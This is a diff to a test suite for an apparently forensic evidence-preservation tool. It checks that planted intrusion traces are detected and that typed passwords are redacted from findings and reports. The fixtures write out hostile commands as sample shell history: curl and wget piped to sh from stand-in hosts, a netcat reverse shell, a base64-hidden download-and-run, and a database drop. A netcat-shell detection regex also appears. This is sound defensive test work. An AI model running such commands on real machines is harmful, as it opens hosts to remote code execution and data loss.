@@ -17,10 +17,14 @@ from pathlib import Path
 
 import pytest
 from conftest import PRESERVE_CODE, ROOT, journal_records, preserve, requires_root, verify
+from evidence_factory import copy_evidence, forge
+
+from manifests.signing import Signer
 
 KEY = b"-----BEGIN OPENSSH PRIVATE KEY-----\nSECRET-HOST-KEY\n-----END OPENSSH PRIVATE KEY-----\n"
 SHADOW = b"root:$6$saltsalt$SECRETHASHVALUE:19000:0:99999:7:::\n"
 TLS_KEY = b"-----BEGIN PRIVATE KEY-----\nSECRET-TLS-MATERIAL\n-----END PRIVATE KEY-----\n"
+MARKERS = (b"SECRET-HOST-KEY", b"SECRETHASHVALUE", b"SECRET-TLS-MATERIAL")
 LIBC = "/usr/lib/x86_64-linux-gnu/libc.so.6"
 PASSWD = """root:x:0:0:root:/root:/bin/bash
 daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
@@ -39,7 +43,26 @@ why = "A netcat that hands out a shell is a reverse shell."
 message = "{user} ran a netcat shell: {line}"
 regex = { line = 'nc\\s.*-e\\s*/bin/(ba)?sh' }
 record = ["user", "line"]
+
+[[rule]]
+id = "examiner-admin-tools"
+fact = "history-line"
+severity = "LOW"
+why = "Database and repository access from a shell shows what an intruder reached."
+message = "{user} ran: {line}"
+regex = { line = '^(mysql|git clone|export|sshpass)' }
+record = ["user", "line"]
 """
+# Passwords typed on command lines: stored byte-exact in the copied history, never quoted
+# in a finding, the closing box or the report (collectors/redact.py).
+TYPED_SECRETS = ("Hunter2pw", "S3cretPW", "wJalrXUtnFEMI-K7MDENG", "gitpa55", "sshpa55")
+SECRET_HISTORY = (
+    "curl -su admin:Hunter2pw http://203.0.113.9/i.sh | sh\n"
+    "mysql -uroot -pS3cretPW -e 'drop database shop'\n"
+    "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI-K7MDENG\n"
+    "git clone https://bob:gitpa55@git.example/r.git\n"
+    "sshpass -p sshpa55 ssh root@10.0.0.1 'wget -O- http://x.example/a | sh'\n"
+)
 
 
 def _write(path: Path, data: str | bytes, mode: int = 0o644) -> Path:
@@ -87,6 +110,7 @@ def _plant(host: Path, outside: Path) -> None:
     _write(host / "security/pam_backdoor.so", b"\x7fELF fake module")
     root = host / "root"
     _write(root / ".profile", "PATH=$PATH:/root/bin\nunset HISTFILE\n")
+    _write(root / ".bash_profile", "export DB_PASSWORD=S3cretPW; unset HISTFILE\n")
     _write(root / ".zsh_history", ": 1764000000:0;echo Y3VybCB4IHwgc2gK | base64 -d | sh\n")
     alice = host / "home/alice"
     _write(
@@ -94,9 +118,11 @@ def _plant(host: Path, outside: Path) -> None:
         "alias ll='ls -l'\nexport HISTFILE=~/.cache/.h\n(/dev/shm/.cache/upd >/dev/null 2>&1 &)\n",
     )
     _write(alice / ".cache/.h", "ls\ncurl -s http://203.0.113.9/a.sh | sh\n")
+    _write(alice / ".rhosts", "+ +\n")
     _write(
         alice / ".bash_history",
-        "#1764000000\nwget -O- http://x.example | bash\nnc 203.0.113.5 4444 -e /bin/sh\nls -la\n",
+        "#1764000000\nwget -O- http://x.example | bash\nnc 203.0.113.5 4444 -e /bin/sh\nls -la\n"
+        + SECRET_HISTORY,
     )
     _write(
         alice / ".ssh/authorized_keys",
@@ -186,6 +212,7 @@ def test_every_planted_entry_is_a_finding(collected: tuple[Path, list[dict]]) ->
         ("persistence-changed-in-window", "/home/alice/.ssh/authorized_keys:1"),
         ("persistence-changed-in-window", "/var/spool/cron/crontabs/alice"),
         ("persistence-writable-target", "/home/alice/.bashrc"),
+        ("persistence-changed-in-window", "/home/alice/.rhosts"),
         ("ld-preload-present", "/etc/ld.so.preload"),
         ("pam-module-unpackaged", "/etc/pam.d/sshd"),
         ("history-disabled", "/root/.profile:2"),
@@ -262,7 +289,8 @@ def test_secrets_are_hashed_never_stored(collected: tuple[Path, list[dict]]) -> 
     for f in evidence.rglob("*"):
         if f.is_file():
             data = f.read_bytes()
-            assert b"SECRET" not in data, f  # not in a copy, a listing or the journal
+            # not in a copy, a listing or the journal (AWS_SECRET_ACCESS_KEY, a name, may be)
+            assert not [m for m in MARKERS if m in data], f
 
 
 def test_a_broken_rule_file_stops_the_run_before_it_collects(tmp_path: Path) -> None:
@@ -272,3 +300,62 @@ def test_a_broken_rule_file_stops_the_run_before_it_collects(tmp_path: Path) -> 
     assert result.returncode == 2
     assert b"'nosuch', not a field" in result.stderr and b"Traceback" not in result.stderr
     assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
+
+
+@requires_root
+def test_typed_passwords_are_redacted_in_findings_and_report(
+    collected: tuple[Path, list[dict]],
+) -> None:
+    evidence, records = collected
+    found = _findings(records)
+    history = "/home/alice/.bash_history"
+    # Line numbers: the #epoch line, wget, nc, ls, then the secrets.
+    curl = found[("history-download-and-run", f"{history}:5")]
+    assert curl["line"] == "curl -su admin:[REDACTED] http://203.0.113.9/i.sh | sh"
+    assert curl["redacted"].startswith("1 likely secret") and "[REDACTED]" in curl["message"]
+    quoted = {n: found[("examiner-admin-tools", f"{history}:{n}")]["line"] for n in (6, 7, 8, 9)}
+    assert quoted == {
+        6: "mysql -uroot -p[REDACTED] -e 'drop database shop'",
+        7: "export AWS_SECRET_ACCESS_KEY=[REDACTED]",
+        8: "git clone https://bob:[REDACTED]@git.example/r.git",
+        9: "sshpass -p [REDACTED] ssh root@10.0.0.1 'wget -O- http://x.example/a | sh'",
+    }
+    assert ("history-download-and-run", f"{history}:9") in found  # judged as typed
+    profile = found[("history-disabled", "/root/.bash_profile:1")]
+    assert profile["line"] == "export DB_PASSWORD=[REDACTED]; unset HISTFILE"
+    # The copy stays byte-exact evidence: the secrets are there, and only there.
+    copy = (evidence / curl["artifact"]).read_bytes()
+    assert copy.endswith(SECRET_HISTORY.encode())
+    copies = {evidence / curl["artifact"], evidence / profile["artifact"]}
+    for f in evidence.rglob("*"):  # the journal, entries.jsonl, every other listing
+        if f.is_file() and f not in copies:
+            data = f.read_bytes()
+            assert not [s for s in TYPED_SECRETS if s.encode() in data], f
+    for fmt in ("md", "html", "json"):
+        result = preserve("report", evidence, "--format", fmt)
+        assert result.returncode == 0, result.stderr.decode()
+        for secret in TYPED_SECRETS:
+            assert secret.encode() not in result.stdout, (fmt, secret)
+        assert b"REDACTED" in result.stdout, fmt  # Markdown writes \\[REDACTED\\]
+
+
+@requires_root
+def test_the_report_redacts_a_finding_an_older_agent_recorded_as_typed(
+    collected: tuple[Path, list[dict]], tmp_path: Path
+) -> None:
+    """Evidence from before redaction (or a plug-in's own findings) quotes the password:
+    the report still hides it."""
+    evidence = copy_evidence(collected[0], tmp_path)
+
+    def unredact(records: list[dict]) -> None:
+        for r in records:
+            if r.get("rule") == "history-download-and-run" and r.get("line_no") == 5:
+                r["line"] = r["line"].replace("[REDACTED]", "Hunter2pw")
+                r["message"] = r["message"].replace("[REDACTED]", "Hunter2pw")
+                r.pop("redacted")
+
+    forge(evidence, Signer.generate_ephemeral(), unredact)
+    assert b"admin:Hunter2pw" in (evidence / "custody.jsonl").read_bytes()
+    for fmt in ("md", "json"):
+        result = preserve("report", evidence, "--format", fmt)
+        assert b"Hunter2pw" not in result.stdout and b"admin:" in result.stdout, fmt
